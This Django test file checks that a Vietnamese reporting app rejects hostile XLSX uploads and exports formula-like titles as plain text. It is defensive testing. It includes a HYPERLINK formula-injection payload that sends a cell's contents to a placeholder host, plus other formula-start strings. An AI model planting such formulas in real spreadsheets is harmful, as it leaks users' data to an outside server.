"""Hostile XLSX files through the activities import, as any editor can send them (issue 16, item 1)."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from loa.activity.models import Activity
from loa.core.tests.hostile_xlsx import HOSTILE


def logged_in(world):
    client = Client()
    client.force_login(world.users["editor"])
    return client


@pytest.mark.parametrize("dry_run", ["true", "false"])
def test_the_corner_file_gets_a_clean_vietnamese_400_from_the_api(world, dry_run):
    before = Activity.objects.count()
    response = logged_in(world).post(
        "/api/activities/import",
        {
            "unit": world.commune.code,
            "dry_run": dry_run,
            "file": SimpleUploadedFile("a.xlsx", HOSTILE["A1+XFD1048576"]()),
        },
    )
    assert response.status_code == 400
    assert "1.048.576 dòng × 16.384 cột, vượt giới hạn" in response.json()["detail"]
    assert Activity.objects.count() == before


@pytest.mark.parametrize("name", list(HOSTILE))
def test_every_hostile_file_gets_a_message_on_the_import_page(world, name):
    before = Activity.objects.count()
    response = logged_in(world).post(
        "/activities/import/",
        {"unit": world.commune.pk, "file": SimpleUploadedFile("hd.xlsx", HOSTILE[name]()), "dry_run": "on"},
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "vượt giới hạn" in page or "zip bomb" in page
    assert Activity.objects.count() == before


FORMULA = '=HYPERLINK("http://x?d="&A2,"x")'


def test_an_activity_titled_as_a_formula_is_exported_as_text_and_reimports_exactly(world):
    from datetime import date

    from openpyxl import load_workbook

    from loa.activity.services import ActivityInput, activity_create
    from loa.activity.xlsx_io import import_activities

    Activity.objects.filter(unit=world.commune).delete()
    activity_create(
        actor=world.users["editor"],
        unit=world.commune,
        data=ActivityInput(
            date=date(2026, 3, 2), channel="mang_xa_hoi", reform_areas=["tthc"], title=FORMULA, description="+1 @x"
        ),
    )
    client = Client()
    client.force_login(world.users["coordinator"])
    response = client.get("/activities/export.xlsx", {"unit": world.commune.code, "q": "HYPERLINK"})
    assert response.status_code == 200
    content = response.content
    sheet = load_workbook(io.BytesIO(content)).active
    titles = [row for row in sheet.iter_rows(min_row=2) if row[3].value == FORMULA]
    assert titles, "the activity is in the coordinator's export"
    assert titles[0][3].data_type == "s" and titles[0][9].value == "+1 @x"
    # Re-imported as it was exported: the title is the text the user typed, not a formula nor "'=…".
    Activity.objects.filter(unit=world.commune).delete()
    mine = [sheet.cell(row=1, column=c).value for c in range(1, sheet.max_column + 1)]
    assert mine[3] == "Tiêu đề"
    assert import_activities(actor=world.users["editor"], unit=world.commune, content=_only(content, FORMULA)) == 1
    assert Activity.objects.get(unit=world.commune).title == FORMULA


def _only(content, title):
    """The export keeping only the header and the row titled `title`."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))
    sheet = book.active
    for index in range(sheet.max_row, 1, -1):
        if sheet.cell(row=index, column=4).value != title:
            sheet.delete_rows(index)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_plan_task_titles_in_the_appendix_export_are_text(world):
    from openpyxl import load_workbook

    from loa.org.scope import SYSTEM
    from loa.plans.document import plan_xlsx
    from loa.plans.services import plan_create
    from loa.plans.tasks_input import TaskInput

    plan = plan_create(
        actor=SYSTEM,
        issuer=world.province,
        year=2026,
        title="Kế hoạch thử công thức",
        tasks=[TaskInput(title=FORMULA, lead_unit=world.commune.code, reform_area="tthc", channel="cong_ttdt")],
    )
    sheet = load_workbook(io.BytesIO(plan_xlsx(plan))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_every_writer_keeps_formula_starts_as_text():
    from openpyxl import load_workbook

    from loa.core.xlsx import FORMULA_START, write_sheets
    from loa.org.credentials import Credential, credentials_xlsx

    texts = [f"{start}SUM(1,2)" for start in FORMULA_START]
    books = [
        write_sheets([("A", ["=x", "b"], [[t, 1] for t in texts])], notes=["=note"]),
        credentials_xlsx([Credential("X1", "=unit", t, f"u{i}", "p") for i, t in enumerate(texts)]),
    ]
    for content in books:
        cells = [c for ws in load_workbook(io.BytesIO(content)).worksheets for row in ws.iter_rows() for c in row]
        written = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
        assert len(written) >= len(texts)
        assert all(c.data_type == "s" for c in written), [(c.coordinate, c.value) for c in written]


def test_no_module_writes_worksheet_rows_but_through_the_one_helper():
    """Every workbook Loa builds writes its rows through core.xlsx.append_row (or write_sheets, which uses it): a
    module that imports openpyxl's Workbook and appends to a sheet directly would bypass the text rule."""
    import re
    from pathlib import Path

    import loa

    root = Path(loa.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "xlsx.py":
            continue
        source = path.read_text(encoding="utf-8")
        if "openpyxl" not in source:
            continue
        sheets = set(re.findall(r"(\w+) = (?:wb|book)\.(?:active|create_sheet)", source)) | {"ws"}
        offenders += [f"{path.name}: {s}.append" for s in sheets if re.search(rf"\b{s}\.append\(", source)]
        offenders += [f"{path.name}: .cell(value=)" for _m in re.finditer(r"\.cell\([^)]*value=", source)]
    assert offenders == []
